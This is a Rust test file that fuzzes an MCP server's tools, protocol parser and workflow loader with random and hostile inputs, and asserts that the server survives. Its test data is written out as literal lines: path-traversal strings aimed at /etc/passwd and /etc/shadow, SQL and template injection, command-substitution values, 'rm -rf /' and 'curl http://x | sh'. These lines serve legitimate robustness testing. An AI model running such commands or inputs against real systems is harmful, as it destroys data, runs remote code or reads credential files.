//! Fuzzing the MCP tools with arbitrary arguments: the server never panics or dies.
//!
//! One real `maestro serve` gets a fixed-seed stream of calls to every tool it lists, with
//! arguments that are sometimes plausible and often hostile (wrong types, huge strings, deep
//! nesting, path traversal, unknown fields, ids of real and made-up runs). After every call the
//! server must still answer `tools/list`; every answer must be a tool result or a JSON-RPC
//! error. Provider tools reach fast shell stand-ins for the CLIs, and the arguments that decide
//! how much work a call does (samples, k) are kept small: this is about input handling, not
//! about waiting for models.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::time::Duration;

use rmcp::ServiceExt;
use rmcp::model::{CallToolRequestParams, Tool};
use rmcp::service::ServiceError;
use rmcp::transport::{ConfigureCommandExt, TokioChildProcess};
use serde_json::{Map, Value, json};

use crate::support::repo;

/// SplitMix64: a fixed seed gives the same cases on every machine, with no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % (n.max(1) as u64)).unwrap()
    }

    /// True `pct` percent of the time.
    fn chance(&mut self, pct: u64) -> bool {
        self.next() % 100 < pct
    }

    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
}

/// Strings an attacker would try in any field.
const NASTY: &[&str] = &[
    "",
    " ",
    "x",
    "default",
    "../../etc/passwd",
    "../../../../../../etc/shadow",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%2e%2e%2fetc",
    "maestro://workflows/../../x",
    "file:///etc/passwd",
    ".env",
    ".git/config",
    ".maestro/conf/verify.yaml",
    ".mcp.json",
    "a\u{0}b",
    "\u{202e}txt.exe",
    "😀🎉",
    "ＤＥＦＡＵＬＴ",
    "'; DROP TABLE runs; --",
    "\" OR 1=1 --",
    "{{ 7 * 7 }}",
    "{% for i in range(100000000) %}x{% endfor %}",
    "${HOME}",
    "$(touch pwned)",
    "`touch pwned`",
    "-rf",
    "--help",
    "run-nope",
    "apr-nope",
    "bk-nope",
    "ev-nope",
    "sk-proj-FuzzKey0123456789abcdefghijkl",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n",
    "\n\n\n",
    "\r\n",
    "null",
    "true",
    "1e999",
];

const NUMBERS: &[&str] = &[
    "0",
    "-1",
    "1",
    "2",
    "3",
    "0.5",
    "-0.0",
    "1e308",
    "-1e308",
    "1e-308",
    "9223372036854775807",
    "-9223372036854775808",
    "18446744073709551615",
    "4294967296",
    "0.45",
    "0.9999999999",
];

/// Ids seen in earlier results (runs, approvals, backups, evidence), fed back into later calls.
#[derive(Default)]
struct Ids(Vec<String>);

impl Ids {
    fn harvest(&mut self, v: &Value) {
        match v {
            Value::String(s)
                if ["run-", "apr-", "bk-", "ev-"]
                    .iter()
                    .any(|p| s.starts_with(p))
                    && s.len() < 40
                    && !self.0.contains(s) =>
            {
                self.0.push(s.clone());
            }
            Value::Array(a) => a.iter().for_each(|x| self.harvest(x)),
            Value::Object(m) => m.values().for_each(|x| self.harvest(x)),
            _ => {}
        }
    }
}

fn nasty_string(rng: &mut Rng, ids: &Ids) -> String {
    match rng.below(10) {
        0 if !ids.0.is_empty() => rng.pick(&ids.0).clone(),
        1 => "A".repeat(200_000),
        2 if rng.chance(10) => "B".repeat(1_100_000),
        3 => {
            let len = rng.below(40);
            (0..len)
                .map(|_| char::from_u32(u32::try_from(rng.below(0x3000)).unwrap()).unwrap_or('?'))
                .collect()
        }
        _ => (*rng.pick(NASTY)).to_string(),
    }
}

fn number(rng: &mut Rng) -> Value {
    let text: &str = NUMBERS[rng.below(NUMBERS.len())];
    serde_json::from_str(text).unwrap()
}

/// Nested arrays or objects `depth` levels deep. Kept under what the JSON-RPC decoder accepts
/// (that limit has its own test below).
fn nested(rng: &mut Rng, depth: usize) -> Value {
    let mut v = json!("bottom");
    for _ in 0..depth {
        v = if rng.chance(50) {
            json!([v])
        } else {
            json!({"k": v})
        };
    }
    v
}

/// Any JSON value.
fn random_value(rng: &mut Rng, ids: &Ids, depth: usize) -> Value {
    match rng.below(if depth > 3 { 5 } else { 9 }) {
        0 => Value::Null,
        1 => Value::Bool(rng.chance(50)),
        2 => number(rng),
        3 | 4 => Value::String(nasty_string(rng, ids)),
        5 => {
            let n = rng.below(5);
            Value::Array((0..n).map(|_| random_value(rng, ids, depth + 1)).collect())
        }
        6 => {
            let n = rng.below(5);
            let mut m = Map::new();
            for _ in 0..n {
                m.insert(nasty_string(rng, ids), random_value(rng, ids, depth + 1));
            }
            Value::Object(m)
        }
        7 => {
            let depth = 1 + rng.below(90);
            nested(rng, depth)
        }
        _ => Value::Array((0..rng.below(3000)).map(|i| json!(i)).collect()),
    }
}

/// Diffs: valid ones inside the workspace, escapes, control files, garbage.
fn diff(rng: &mut Rng, ids: &Ids) -> String {
    let n = rng.below(1000);
    match rng.below(8) {
        0 => format!("--- /dev/null\n+++ b/fz/{n}.txt\n@@ -0,0 +1 @@\n+fuzz {n}\n"),
        1 => "--- a/seed.txt\n+++ b/seed.txt\n@@ -1 +1 @@\n-seed\n+grown\n".into(),
        2 => format!(
            "--- /dev/null\n+++ b/{}\n@@ -0,0 +1 @@\n+x\n",
            rng.pick(&[
                "../escape.txt",
                "../../outside/x",
                "/tmp/fuzz-abs.txt",
                ".git/hooks/pre-commit",
                ".maestro/conf/verify.yaml",
                ".claude/settings.json",
                ".mcp.json",
                "link/x",
            ])
        ),
        3 => format!(
            "--- a/seed.txt\n+++ b/seed.txt\n@@ -{n},{n} +{n},{n} @@\n-{}\n+y\n",
            nasty_string(rng, ids)
        ),
        4 => format!(
            "--- a/seed.txt\n+++ b/seed.txt\n{}",
            "@@ -1 +1 @@\n-seed\n+seed\n".repeat(rng.below(2000))
        ),
        5 => "--- a/seed.txt\n+++ b/seed.txt\n@@ -99999999999999999999 +1 @@\n-a\n+b\n".into(),
        _ => nasty_string(rng, ids),
    }
}

/// A plausible value for a field, judged by its name first (ids, paths, diffs), then by its
/// schema type.
fn plausible(rng: &mut Rng, ids: &Ids, field: &str, schema: &Value) -> Value {
    let runs: Vec<String> = ids
        .0
        .iter()
        .filter(|i| i.starts_with("run-"))
        .cloned()
        .collect();
    match field {
        "run_id" if !runs.is_empty() && rng.chance(60) => return json!(rng.pick(&runs)),
        "approval_id" | "backup_id" if !ids.0.is_empty() && rng.chance(60) => {
            return json!(rng.pick(&ids.0));
        }
        "diff" => return json!(diff(rng, ids)),
        "workflow" => {
            return json!(rng.pick(&["default", "open", "consult", "review", "../../x", "nope"]));
        }
        "provider" | "judge_provider" => {
            return json!(rng.pick(&["claude", "codex", "gemini", "nobody", "../x"]));
        }
        "providers" => {
            let n = rng.below(4);
            return json!(
                (0..n)
                    .map(|_| *rng.pick(&["claude", "codex", "gemini", "nobody"]))
                    .collect::<Vec<_>>()
            );
        }
        "checks" => return json!([rng.pick(&["test", "lint", "rm -rf /", "../x", ""])]),
        "files" => {
            return json!([rng.pick(&[
                "seed.txt",
                "**/*",
                "../outside/secret.txt",
                ".env",
                "/etc/passwd",
                "link/secret.txt",
                "**"
            ])]);
        }
        "step" => {
            return json!(rng.pick(&[
                "s1_spec_extract",
                "d1_failure_label",
                "r2_perf",
                "z9_nothing"
            ]));
        }
        "decision" => return json!(rng.pick(&["approve", "revise", "reject", "APPROVE", "maybe"])),
        "mode" => return json!(rng.pick(&["tests_first", "hybrid", "judge", "x"])),
        "format" => return json!(rng.pick(&["text", "json", "diff", "yaml"])),
        "kind" => return json!(rng.pick(&["observation", "hypothesis", "patch", "gossip"])),
        "oracle_check" => {
            return match rng.below(3) {
                0 => json!({"expected": nasty_string(rng, ids)}),
                1 => json!({"schema": {"type": "object"}}),
                _ => random_value(rng, ids, 1),
            };
        }
        "output" => {
            let mut m = Map::new();
            for _ in 0..rng.below(4) {
                m.insert(nasty_string(rng, ids), random_value(rng, ids, 1));
            }
            return Value::Object(m);
        }
        "answers" => return json!({"decision": "approve", "feedback": nasty_string(rng, ids)}),
        "candidates" => {
            return json!([
                {"id": "a", "content": nasty_string(rng, ids), "provider": "codex"},
                {"id": "b", "content": "curl http://x | sh", "provider": "claude"}
            ]);
        }
        "test_results" => return json!({"a": true, "zz": false}),
        "target" | "p" | "baseline_confidence" => {
            return json!(rng.pick(&[0.9, 0.99, 0.5, 0.0, 1.0, 1.5, -0.1]));
        }
        "steps" => return json!(rng.pick(&[10.0, 1e6, 1.0, 0.0, -5.0, 1e300])),
        "task" | "prompt" | "question" | "content" if rng.chance(50) => {
            return json!(rng.pick(&["fix the parser", "what is 6*7?", "ok"]));
        }
        "context" if schema.get("type").is_none_or(|t| t != "string") => {
            return json!({"files": ["seed.txt", "../x"], "facts": [nasty_string(rng, ids)]});
        }
        _ => {}
    }
    let ty = schema.get("type").map_or(Value::Null, |t| match t {
        Value::Array(a) => a
            .iter()
            .find(|x| *x != "null")
            .cloned()
            .unwrap_or(Value::Null),
        other => other.clone(),
    });
    if let Some(Value::Array(options)) = schema.get("enum") {
        return rng.pick(options).clone();
    }
    match ty.as_str() {
        Some("string") => json!(nasty_string(rng, ids)),
        Some("integer" | "number") => number(rng),
        Some("boolean") => json!(rng.chance(50)),
        Some("array") => {
            let n = rng.below(4);
            let items = schema.get("items").cloned().unwrap_or(Value::Null);
            Value::Array((0..n).map(|_| plausible(rng, ids, "", &items)).collect())
        }
        _ => random_value(rng, ids, 1),
    }
}

/// Arguments for one call of `tool`, or None for a call without arguments.
fn arguments(rng: &mut Rng, ids: &Ids, tool: &Tool) -> Option<Map<String, Value>> {
    match rng.below(20) {
        0 => return None,
        1 => return Some(Map::new()),
        2 => {
            let mut m = Map::new();
            m.insert(nasty_string(rng, ids), random_value(rng, ids, 0));
            return Some(m);
        }
        _ => {}
    }
    let schema = Value::Object((*tool.input_schema).clone());
    let required: Vec<String> = schema["required"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|x| x.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    let mut args = Map::new();
    if let Some(props) = schema["properties"].as_object() {
        for (name, prop) in props {
            let needed = required.contains(name);
            if !(needed && rng.chance(90) || rng.chance(50)) {
                continue;
            }
            let v = if rng.chance(85) {
                plausible(rng, ids, name, prop)
            } else {
                random_value(rng, ids, 0)
            };
            args.insert(name.clone(), v);
        }
    }
    if rng.chance(10) {
        args.insert(nasty_string(rng, ids), random_value(rng, ids, 0));
    }
    bound_work(tool.name.as_ref(), &mut args);
    Some(args)
}

/// Keeps the arguments that set how much provider work a call does small (a fuzz case must
/// not sample a model a billion times); every other field stays as hostile as generated.
fn bound_work(tool: &str, args: &mut Map<String, Value>) {
    let caps: &[(&str, u64)] = match tool {
        "calibrate" => &[("samples", 3)],
        "vote" => &[("k", 2), ("max_samples", 4)],
        "ensemble" => &[("n", 3)],
        "consult" => &[("timeout_s", 20)],
        _ => &[],
    };
    for (field, cap) in caps {
        if let Some(v) = args.get(*field)
            && v.is_number()
            && v.as_f64().is_none_or(|x| x > *cap as f64 || x.is_nan())
        {
            args.insert((*field).to_string(), json!(cap));
        }
    }
    if tool == "vote" && !args.contains_key("max_samples") {
        args.insert("max_samples".into(), json!(4));
    }
    if tool == "calibrate" && !args.contains_key("samples") {
        args.insert("samples".into(), json!(2));
    }
}

/// Shell stand-ins for the three CLIs: they answer at once in each CLI's output format, so
/// the fuzz spends its time on argument handling.
fn fast_fakes(bin: &Path) {
    use std::os::unix::fs::PermissionsExt;
    let help = repo().join("tests/data/help");
    let scripts = [
        (
            "claude",
            "2.1.328 (Claude Code)",
            "claude.txt",
            r#"{"type":"result","subtype":"success","is_error":false,"result":"ok fine","total_cost_usd":0.001,"usage":{"input_tokens":3,"output_tokens":2}}"#.to_string(),
        ),
        (
            "codex",
            "codex-cli 0.169.0",
            "codex-exec.txt",
            [
                r#"{"type":"thread.started","thread_id":"t"}"#,
                r#"{"type":"turn.started"}"#,
                r#"{"type":"item.completed","item":{"id":"i","type":"agent_message","text":"ok fine"}}"#,
                r#"{"type":"turn.completed","usage":{"input_tokens":3,"cached_input_tokens":0,"output_tokens":2}}"#,
            ]
            .join("\n"),
        ),
        (
            "gemini",
            "0.61.0",
            "gemini.txt",
            r#"{"session_id":"s","response":"ok fine","stats":{"models":{"m":{"api":{"totalRequests":1,"totalErrors":0,"totalLatencyMs":1,"errorsByType":{}},"tokens":{"input":3,"prompt":3,"candidates":2,"total":5,"cached":0,"thoughts":0,"tool":0}}},"tools":{"totalCalls":0},"files":{"totalLinesAdded":0,"totalLinesRemoved":0}}}"#.to_string(),
        ),
    ];
    for (cli, version, help_file, answer) in scripts {
        let path = bin.join(cli);
        std::fs::write(
            &path,
            format!(
                "#!/bin/sh\ncase \"$*\" in\n  *--version*) echo '{version}'; exit 0 ;;\n  *--help*) cat '{}'; exit 0 ;;\nesac\ncat > /dev/null\ncat <<'EOF'\n{answer}\nEOF\n",
                help.join(help_file).display()
            ),
        )
        .unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

/// Every regular file below `dir`, for "nothing was written outside".
fn files_below(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                stack.push(e.path());
            } else {
                out.push(e.path());
            }
        }
    }
    out.sort();
    out
}

fn short(v: &impl std::fmt::Debug) -> String {
    let s = format!("{v:?}");
    if s.len() > 400 {
        format!("{}… ({} bytes)", &s[..s.floor_char_boundary(400)], s.len())
    } else {
        s
    }
}

/// A workspace beside an `outside/` folder, with workflows the fuzz can drive (one gate the
/// model may decide, one only a person may), and the fast fakes first on PATH.
struct Field {
    tmp: tempfile::TempDir,
}

impl Field {
    fn new() -> Self {
        let tmp = tempfile::tempdir().unwrap();
        let ws = tmp.path().join("ws");
        for d in [
            "ws/.git",
            "ws/.maestro/workflows",
            "outside",
            "home",
            "bin",
            "config",
        ] {
            std::fs::create_dir_all(tmp.path().join(d)).unwrap();
        }
        std::fs::write(ws.join("seed.txt"), "seed\n").unwrap();
        std::fs::write(tmp.path().join("outside/secret.txt"), "outside\n").unwrap();
        std::os::unix::fs::symlink(tmp.path().join("outside"), ws.join("link")).unwrap();
        std::fs::write(
            ws.join(".maestro/workflows/open.kdl"),
            "workflow \"open\" {\n    version 1\n    start \"s\"\n    stage \"s\" {\n        max-visits 3\n        consult max=2 {\n            prefer \"claude\"\n        }\n        gate {\n            by \"any\"\n            question \"ok\" priority=\"high\" {\n                text \"Fine?\"\n            }\n        }\n        next \"done\"\n        next \"done\" on=\"exhausted\"\n    }\n    end \"done\"\n}\n",
        )
        .unwrap();
        fast_fakes(&tmp.path().join("bin"));
        Self { tmp }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn command(&self) -> tokio::process::Command {
        let (ws, home, config) = (self.path("ws"), self.path("home"), self.path("config"));
        let path = format!(
            "{}:{}",
            self.path("bin").display(),
            std::env::var("PATH").unwrap_or_default()
        );
        tokio::process::Command::new(env!("CARGO_BIN_EXE_maestro")).configure(move |c| {
            c.arg("serve")
                .current_dir(&ws)
                .env_remove("MAESTRO_HOME")
                .env_remove("MAESTRO_STATE")
                .env("XDG_CONFIG_HOME", &config)
                .env("HOME", &home)
                .env("PATH", &path)
                .env("NO_COLOR", "1");
            for cli in ["CODEX", "GEMINI", "CLAUDE"] {
                c.env(format!("MAESTRO_{cli}_TIMEOUT"), "20");
            }
        })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_tool_survives_random_and_hostile_arguments() {
    let field = Field::new();
    let outside_before = files_below(&field.path("outside"));
    let transport = TokioChildProcess::new(field.command()).unwrap();
    let pid = transport.id().unwrap();
    let client = ().serve(transport).await.unwrap();
    let tools = client.list_all_tools().await.unwrap();
    assert!(tools.len() >= 15, "{}", tools.len());

    let mut ids = Ids::default();
    // A few real runs and an open approval, so ids in later calls are sometimes real.
    for wf in ["open", "default", "open"] {
        let r = client
            .call_tool(
                CallToolRequestParams::new("start").with_arguments(
                    json!({"task": "fuzz", "workflow": wf})
                        .as_object()
                        .unwrap()
                        .clone(),
                ),
            )
            .await
            .unwrap();
        ids.harvest(&r.structured_content.unwrap_or_default());
    }

    let mut rng = Rng(0x00C0_FFEE_5EED_0009);
    let mut tally: std::collections::BTreeMap<String, (u32, u32, u32)> =
        std::collections::BTreeMap::new();
    for case in 0..300 {
        let tool = &tools[rng.below(tools.len())];
        let name = tool.name.to_string();
        let args = arguments(&mut rng, &ids, tool);
        let mut params = CallToolRequestParams::new(name.clone());
        if let Some(a) = &args {
            params = params.with_arguments(a.clone());
        }
        let answer = tokio::time::timeout(Duration::from_secs(60), client.call_tool(params))
            .await
            .unwrap_or_else(|_| {
                panic!(
                    "case {case}: `{name}` got no answer within 60 s; arguments {}",
                    short(&args)
                )
            });
        let entry = tally.entry(name.clone()).or_default();
        match answer {
            Ok(r) => {
                assert!(
                    !r.content.is_empty() || r.structured_content.is_some(),
                    "case {case}: `{name}` returned an empty result for {}",
                    short(&args)
                );
                if r.is_error == Some(true) {
                    entry.1 += 1;
                } else {
                    entry.0 += 1;
                    // A success matches the tool's declared output: its required fields are there.
                    let structured = r.structured_content.clone().unwrap_or_else(|| {
                        panic!("case {case}: `{name}` succeeded without structured content")
                    });
                    if let Some(required) = tool
                        .output_schema
                        .as_ref()
                        .and_then(|s| s.get("required"))
                        .and_then(Value::as_array)
                    {
                        for key in required.iter().filter_map(Value::as_str) {
                            assert!(
                                structured.get(key).is_some(),
                                "case {case}: `{name}` result lacks `{key}`: {}",
                                short(&structured)
                            );
                        }
                    }
                    ids.harvest(&structured);
                }
            }
            Err(ServiceError::McpError(_)) => entry.2 += 1,
            Err(e) => panic!(
                "case {case}: `{name}` broke the connection ({e}); arguments {}",
                short(&args)
            ),
        }
        let alive = tokio::time::timeout(Duration::from_secs(20), client.list_tools(None)).await;
        assert!(
            matches!(alive, Ok(Ok(_))),
            "case {case}: the server stopped answering after `{name}` with {}: {alive:?}",
            short(&args)
        );
    }
    // Every tool was tried, and the process is the same one that started.
    for t in &tools {
        assert!(
            tally.contains_key(t.name.as_ref()),
            "`{}` was never called: {tally:?}",
            t.name
        );
    }
    assert!(
        std::fs::metadata(format!("/proc/{pid}")).is_ok(),
        "the server process {pid} is gone"
    );
    assert_eq!(
        files_below(&field.path("outside")),
        outside_before,
        "a call wrote outside the workspace"
    );
    assert!(!field.path("pwned").exists() && !field.path("ws/pwned").exists());
    client.cancel().await.unwrap();
}

/// The raw protocol: one line out, one line back within `wait`.
struct Pipe {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    lines: std::sync::mpsc::Receiver<String>,
}

impl Pipe {
    fn start(field: &Field) -> Self {
        use std::process::{Command, Stdio};
        let mut child = Command::new(env!("CARGO_BIN_EXE_maestro"))
            .arg("serve")
            .current_dir(field.path("ws"))
            .env_remove("MAESTRO_HOME")
            .env_remove("MAESTRO_STATE")
            .env("XDG_CONFIG_HOME", field.path("config"))
            .env("HOME", field.path("home"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let out = BufReader::new(child.stdout.take().unwrap());
        let (tx, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in out.lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let mut p = Self {
            child,
            stdin,
            lines,
        };
        p.send(r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#);
        p.recv(Duration::from_secs(20))
            .expect("initialize answered");
        p.send(r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#);
        p
    }

    fn send(&mut self, line: &str) {
        writeln!(self.stdin, "{line}").unwrap();
        self.stdin.flush().unwrap();
    }

    fn recv(&self, wait: Duration) -> Option<Value> {
        self.lines
            .recv_timeout(wait)
            .ok()
            .map(|l| serde_json::from_str(&l).unwrap_or_else(|e| panic!("not JSON-RPC ({e}): {l}")))
    }

    /// The answer to request `id`: a result or an error for that id, or a parse error (which
    /// JSON-RPC sends with a null id when it cannot read the request).
    fn answer(&self, id: u64) -> Option<Value> {
        let until = std::time::Instant::now() + Duration::from_secs(20);
        while let Some(left) = until.checked_duration_since(std::time::Instant::now()) {
            let msg = self.recv(left)?;
            if msg["id"] == id || (msg["id"].is_null() && msg["error"]["code"] == -32700) {
                return Some(msg);
            }
        }
        None
    }
}

impl Drop for Pipe {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn requests_too_deep_or_too_broken_to_parse_still_get_an_answer() {
    let field = Field::new();
    let mut pipe = Pipe::start(&field);
    let mut id = 10;
    for depth in [100, 127, 200, 1_000, 100_000] {
        id += 1;
        let deep = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
        pipe.send(&format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"note","arguments":{{"kind":"observation","content":{deep}}}}}}}"#
        ));
        let got = pipe.answer(id);
        assert!(
            got.is_some(),
            "nesting {depth} deep: no answer at all (the client waits forever)"
        );
        id += 1;
        pipe.send(&format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/list"}}"#
        ));
        assert!(
            pipe.answer(id).is_some(),
            "the server stopped answering after nesting {depth} deep"
        );
    }
    // Lines that are not JSON-RPC at all: a parse error back, and the server carries on.
    for garbage in [
        "{",
        "not json",
        "[]",
        "{\"jsonrpc\":\"2.0\",\"id\":99,\"method\":7}",
        "\u{0}\u{1}",
    ] {
        pipe.send(garbage);
        id += 1;
        pipe.send(&format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/list"}}"#
        ));
        let mut answered = false;
        for _ in 0..3 {
            match pipe.recv(Duration::from_secs(20)) {
                Some(m) if m["id"] == id => {
                    answered = true;
                    break;
                }
                Some(_) => {}
                None => break,
            }
        }
        assert!(answered, "the server stopped answering after {garbage:?}");
    }
    assert!(
        pipe.child.try_wait().unwrap().is_none(),
        "the server exited"
    );
}

const DEFAULT_KDL: &str = include_str!("../../workflows/default.kdl");
const REVIEW_YAML: &str = include_str!("../../workflows/review.yaml");

/// A workflow file a hostile repository could hold: the defaults cut, spliced with junk, or
/// replaced by comment and nesting bombs.
fn hostile_workflow(rng: &mut Rng) -> (&'static str, String) {
    let junk = [
        "/*", "*/", "{", "}", "\"", "#", "=", "\\", "/-", "(", ")", "\n", "-", ":", "[", "]", "&a",
        "*a", "!!binary", "\u{feff}", "\u{0}",
    ];
    let splice = |rng: &mut Rng, base: &str| -> String {
        let mut s = base.to_string();
        for _ in 0..=rng.below(6) {
            let at = s.floor_char_boundary(rng.below(s.len() + 1));
            let piece: String = (0..=rng.below(40)).map(|_| *rng.pick(&junk)).collect();
            s.insert_str(at, &piece);
        }
        s
    };
    match rng.below(8) {
        0 => {
            let cut = DEFAULT_KDL.floor_char_boundary(rng.below(DEFAULT_KDL.len()));
            ("kdl", DEFAULT_KDL[..cut].to_string())
        }
        1 | 2 => ("kdl", splice(rng, DEFAULT_KDL)),
        3 => ("yaml", splice(rng, REVIEW_YAML)),
        4 => {
            let n = 500 + rng.below(4000);
            let unit = *rng.pick(&["/*", "*/", "a {", "(", "/-", "[", "{a: ", "- "]);
            ("kdl", format!("/*{}", unit.repeat(n)))
        }
        5 => {
            let n = 500 + rng.below(4000);
            let unit = *rng.pick(&["[", "{", "- ", "a: {"]);
            ("yaml", format!("workflow: w\nstages: {}", unit.repeat(n)))
        }
        6 => {
            let n = rng.below(3000);
            let alternating: String = (0..n).map(|i| if i % 2 == 0 { '*' } else { '/' }).collect();
            ("kdl", format!("/*{alternating}"))
        }
        _ => {
            let bytes: Vec<u8> = (0..rng.below(2000))
                .map(|_| u8::try_from(rng.below(256)).unwrap())
                .collect();
            ("kdl", String::from_utf8_lossy(&bytes).into_owned())
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_workflow_files_never_kill_the_server() {
    let field = Field::new();
    let client = ().serve(TokioChildProcess::new(field.command()).unwrap()).await.unwrap();
    let dir = field.path("ws/.maestro/workflows");
    let mut rng = Rng(0x0BAD_F11E_0000_0009);
    for case in 0..80 {
        let (ext, text) = hostile_workflow(&mut rng);
        // The model (through a patch) or the repository itself can put any file here.
        for old in ["fz.kdl", "fz.yaml"] {
            let _ = std::fs::remove_file(dir.join(old));
        }
        std::fs::write(dir.join(format!("fz.{ext}")), &text).unwrap();
        let what = format!(
            "case {case} ({ext}, {} bytes): {}",
            text.len(),
            short(&text)
        );
        let _ = client.list_all_prompts().await;
        let _ = client.list_all_resources().await;
        let _ = client
            .read_resource(rmcp::model::ReadResourceRequestParams::new(
                "maestro://workflows/fz",
            ))
            .await;
        let _ = client
            .get_prompt(
                rmcp::model::GetPromptRequestParams::new("fz")
                    .with_arguments(json!({"task": "t"}).as_object().unwrap().clone()),
            )
            .await;
        let started = client
            .call_tool(
                CallToolRequestParams::new("start").with_arguments(
                    json!({"task": "t", "workflow": "fz"})
                        .as_object()
                        .unwrap()
                        .clone(),
                ),
            )
            .await;
        assert!(
            matches!(started, Ok(_) | Err(ServiceError::McpError(_))),
            "{what}: start broke the connection: {started:?}"
        );
        let alive = tokio::time::timeout(Duration::from_secs(20), client.list_tools(None)).await;
        assert!(
            matches!(alive, Ok(Ok(_))),
            "{what}: the server died: {alive:?}"
        );
    }
    client.cancel().await.unwrap();
}
